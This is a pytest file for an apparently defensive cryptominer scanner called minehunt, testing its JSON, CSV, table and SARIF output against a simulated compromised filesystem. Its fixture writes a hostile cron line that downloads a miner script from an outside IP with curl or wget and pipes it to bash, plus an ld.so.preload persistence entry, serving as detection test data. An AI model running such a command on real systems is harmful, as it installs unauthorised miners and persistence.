"""Every output format, rendered from a real scan of a compromised system tree."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import jsonschema
import pytest

from minehunt.formats import OutputFormat, render
from minehunt.host import HostScanOptions, scan_host
from minehunt.intel import default
from minehunt.model import Report, Severity
from minehunt.report import Collector

REPO = Path(__file__).resolve().parents[2]
SARIF_SCHEMA = REPO / "tests/node_modules/@microsoft/jest-sarif/lib/schemas/sarif-2.1.0-rtm.5.json"


@pytest.fixture(scope="module")
def report(tmp_path_factory: pytest.TempPathFactory) -> Report:
    root = tmp_path_factory.mktemp("root")
    (root / "etc/cron.d").mkdir(parents=True)
    (root / "etc/cron.d/sys").write_text(
        "*/10 * * * * root (curl -fsSL http://103.1.2.3/xmr.sh || wget -qO- http://103.1.2.3/xmr.sh) | bash\n"
    )
    (root / "etc/ld.so.preload").write_text("/lib/libsystem.so\n")
    (root / "dev/shm").mkdir(parents=True)
    (root / "dev/shm/.kdevtmpfsi").write_bytes(Path("/bin/true").read_bytes())
    (root / "dev/shm/.kdevtmpfsi").chmod(0o755)
    unreadable = root / "etc/cron.d/locked"
    unreadable.mkdir()  # a directory where a file is expected: listed, not scannable
    col = Collector("scan host")
    col.skipper("host.persistence")("/etc/cron.d/locked", "is a directory")
    findings = list(scan_host(default(), HostScanOptions(root=root, processes=False), col))
    r = col.report(findings)
    assert len(r.findings) >= 3 and r.skipped
    return r


def test_json_round_trips_into_the_model(report: Report) -> None:
    doc = json.loads(render(report, OutputFormat.JSON))
    assert doc["schema_version"] == 1
    assert Report.from_dict(doc) == report


def test_jsonl_one_object_per_finding_and_skipped(report: Report) -> None:
    lines = render(report, OutputFormat.JSONL).splitlines()
    objs = [json.loads(line) for line in lines]
    assert [o["type"] for o in objs] == ["finding"] * len(report.findings) + ["skipped"] * len(
        report.skipped
    )
    assert objs[0]["check_id"] == report.findings[0].check_id


def test_csv_has_a_row_per_finding(report: Report) -> None:
    rows = list(csv.DictReader(io.StringIO(render(report, OutputFormat.CSV))))
    assert len(rows) == len(report.findings)
    assert rows[0]["severity"] == report.findings[0].severity.value
    assert {r["path"] for r in rows} >= {"/etc/cron.d/sys", "/etc/ld.so.preload"}


def test_table_names_every_finding(report: Report) -> None:
    text = render(report, OutputFormat.TABLE, width=160)
    for f in report.findings:
        assert f.check_id in text
    assert "could not be scanned" in text


@pytest.mark.skipif(
    not SARIF_SCHEMA.exists(), reason="npm test packages not installed (run scripts/test)"
)
def test_sarif_validates_and_lists_each_rule_once(report: Report) -> None:
    doc = json.loads(render(report, OutputFormat.SARIF))
    schema = json.loads(SARIF_SCHEMA.read_text())
    jsonschema.validate(doc, schema)
    run = doc["runs"][0]
    rule_ids = [r["id"] for r in run["tool"]["driver"]["rules"]]
    assert len(rule_ids) == len(set(rule_ids))
    for res in run["results"]:
        assert rule_ids[res["ruleIndex"]] == res["ruleId"]
    levels = {r["properties"]["severity"]: r["level"] for r in run["results"]}
    assert levels.get(Severity.MEDIUM.value, "warning") == "warning"
    notes = run["invocations"][0]["toolExecutionNotifications"]
    assert any("/etc/cron.d/locked" in n["message"]["text"] for n in notes)
    uris = {
        loc["physicalLocation"]["artifactLocation"]["uri"]
        for res in run["results"]
        for loc in res["locations"]
    }
    assert "file:///etc/cron.d/sys" in uris


def test_sarif_points_archive_members_at_the_archive_on_disk(tmp_path: Path) -> None:
    import zipfile

    from tests.conftest import run_cli

    bundle = tmp_path / "backup.zip"
    with zipfile.ZipFile(bundle, "w", zipfile.ZIP_DEFLATED) as z:
        z.write(REPO / "tests/corpus/files/configs/xmrig_config.json", "opt/.cache/config.json")
    res = run_cli("scan", "files", str(bundle), "--format", "sarif")
    assert res.code == 1, res.stderr
    doc = json.loads(res.stdout)
    jsonschema.validate(doc, json.loads(SARIF_SCHEMA.read_text()))
    (loc,) = doc["runs"][0]["results"][0]["locations"]
    assert loc["physicalLocation"]["artifactLocation"]["uri"] == f"file://{bundle}"
    (member,) = loc["logicalLocations"]
    assert member["name"] == "opt/.cache/config.json"
    assert member["fullyQualifiedName"] == f"{bundle}!opt/.cache/config.json"


def test_table_gives_a_long_path_the_width_it_needs() -> None:
    from minehunt.web.static import document_finding

    corpus = REPO / "tests/corpus/files/web"
    path = "/srv/www/shop.example/releases/2026-12-01/public/assets/vendor/js/pool_websocket.js"
    finding = document_finding(path, (corpus / "pool_websocket.js").read_bytes())
    assert finding is not None
    report = Report(findings=(finding,), command="scan files")
    wide = render(report, OutputFormat.TABLE, width=160)
    assert path in wide  # on one line, not folded into slices
    lines = wide.splitlines()
    assert all(len(line) <= 160 and line[-1] in "┓┃┩│┤┘" for line in lines)
    # Too narrow for a table to hold it whole: a block per finding, the path on a line of
    # its own (folded at the terminal's width only when longer than it).
    for width in (80, 120):
        lines = render(report, OutputFormat.TABLE, width=width).splitlines()
        assert all(len(line) <= width for line in lines), width
        assert lines[0].startswith(f"{finding.severity.value} ") and finding.check_id in lines[0]
        folded = "".join(line.strip() for line in lines[1 : 1 + -(-len(path) // (width - 3))])
        assert folded == path, width
        assert any(line.lstrip().startswith("• ") for line in lines)
    assert path in render(report, OutputFormat.TABLE, width=120).splitlines()[1]


def test_short_targets_keep_the_table_on_a_narrow_terminal() -> None:
    from minehunt.web.static import document_finding

    corpus = REPO / "tests/corpus/files/web"
    finding = document_finding("/srv/m.js", (corpus / "pool_websocket.js").read_bytes())
    assert finding is not None
    lines = render(Report(findings=(finding,)), OutputFormat.TABLE, width=80).splitlines()
    assert all(len(line) <= 80 and line[-1] in "┓┃┩│┤┘" for line in lines)
    assert any("/srv/m.js" in line for line in lines)
